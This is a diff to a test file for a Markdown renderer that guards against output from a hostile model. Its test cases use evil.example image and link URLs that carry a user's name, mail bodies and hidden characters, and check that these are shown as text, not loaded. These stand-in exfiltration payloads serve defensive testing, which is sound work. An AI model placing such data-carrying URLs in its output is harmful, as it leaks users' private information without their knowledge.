@@ -41,7 +41,20 @@ describe("Markdown of a hostile model", () => {
     const html = set("![a cat](https://evil.example/track.png?who=ben)");
     expect(html).not.toContain("<img");
     expect(html).toContain("a cat");
-    expect(html).toContain("(evil.example)");
+    expect(html).toContain("(evil.example/track.png?who=ben)");
+  });
+
+  it.each([
+    ["https://evil.example/?q=my+name%20is%20Ben", "(evil.example/?q=my name is Ben)"],
+    ["https://evil.example/my%20name%20is%20Ben", "(evil.example/my name is Ben)"],
+    [`https://evil.example/${"a-".repeat(40)}`, `(evil.example/${"a-".repeat(40)})`],
+    ["https://evil.example/#Ben", "(evil.example/#Ben)"],
+    ["https://evil.example/wiki/Harbour", "(evil.example)"],
+    ["mailto:a@evil.example?body=my%20name", "(a@evil.example, body=my name)"],
+    ["https://evil.example/?q=%E2%80%AEneB%00", "(evil.example/?q=%E2%80%AEneB%00)"],
+    [`https://evil.example/?q=${"x".repeat(400)}`, "… +116)"],
+  ])("shows what a link carries: %s", (href, shown) => {
+    expect(set(`[x](<${href}>)`)).toContain(shown);
   });
 
   it("says where a link leads, whatever its text claims", () => {
